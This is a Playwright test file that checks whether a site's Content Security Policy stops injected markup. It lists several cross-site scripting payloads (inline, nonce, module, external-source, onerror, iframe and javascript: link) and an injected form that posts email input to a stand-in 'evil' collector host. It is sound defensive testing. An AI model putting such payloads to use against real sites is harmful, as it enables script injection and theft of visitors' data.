import { expect, type Page, test } from "../support/browser";
import { fill } from "../support/fill";
import { valuesOf } from "../support/form-cases";

declare global {
  interface Window {
    ran?: string[];
  }
}

/** Ways in which a fault of the program might let a visitor's text become part of a page. */
const injections = {
  "an inline script": "<script>(window.ran ??= []).push('inline')</script>",
  "a script with a guessed mark": "<script nonce='x'>(window.ran ??= []).push('nonce')</script>",
  "a module": "<script type='module'>(window.ran ??= []).push('module')</script>",
  "a file of another site": "<script src='http://localhost:9/injected.js'></script>",
  "a handler": "<img src='/none.png' onerror=\"(window.ran ??= []).push('handler')\">",
  "a frame": "<iframe srcdoc=\"<script>parent.ran = ['frame']</script>\"></iframe>",
  "a link that is a script":
    "<a id='link' href=\"javascript:(window.ran ??= []).push('link')\">x</a>",
};

/** Has HTML stand in a page from now on, as if a fault of the program had let it in. */
const inject = (page: Page, path: string, html: string) =>
  page.route(path, async (route) => {
    const response = await route.fetch({ maxRetries: 2 });
    const body = (await response.text()).replace("<main", `${html}<main`);
    await route.fulfill({ response: response, body });
  });

test("no script that got into a page runs, however it got there", async ({ page, complaints }) => {
  await page.route("http://localhost:9/injected.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: "(window.ran ??= []).push('file')" }),
  );
  for (const [what, html] of Object.entries(injections)) {
    await inject(page, "/contact", html);
    await page.goto("/contact");
    const link = page.locator("#link");
    if (await link.count()) await link.dispatchEvent("click");
    await page.locator("#lead-contact [name=name]").focus();
    await expect
      .poll(() => complaints.join(), { message: what })
      .toMatch(/Content Security Policy/);
    expect([what, await page.evaluate(() => window.ran)]).toEqual([what, undefined]);
    complaints.length = 0;
  }
});

test("a form that got into a page sends nothing to another site, taken over or not", async ({
  page,
  complaints,
}) => {
  const evil = "http://localhost:9/collect";
  let collected = 0;
  await page.route(evil, (route) => {
    collected += 1;
    return route.fulfill({ body: "thanks" });
  });
  const state = JSON.stringify({ form: "meeting", page: evil });
  const form = `<form id="injected" method="post" action="${evil}"><input name="email"></form>`;
  for (const [injected, id] of [
    [form, "injected"],
    [`<div data-form='${state}'>${form}</div>`, "lead-meeting"],
  ] as const) {
    await inject(page, "/legal", injected);
    await page.goto("/legal");
    await page.locator("#injected input").focus();
    await expect(page.locator(`#${id}`)).toHaveCount(1);
    if (id === "lead-meeting") await fill(page, "meeting", valuesOf("meeting"));
    // Not by a press: Playwright would wait for a navigation that the policy has refused.
    await page.locator(`#${id}`).evaluate((one: HTMLFormElement) => one.requestSubmit());
    await expect.poll(() => complaints.join()).toMatch(/Content Security Policy/);
    expect(collected).toBe(0);
    complaints.length = 0;
  }
});

test("a string cannot become markup or code", async ({ page, complaints }) => {
  await page.goto("/contact");
  for (const attempt of [
    "document.createElement('div').innerHTML = '<b>x</b>'",
    "document.createElement('script').text = 'x'",
    "setTimeout('window.ran = true', 0)",
  ]) {
    await expect(page.evaluate(attempt)).rejects.toThrow(/TypeError|EvalError/);
  }
  complaints.length = 0;
});
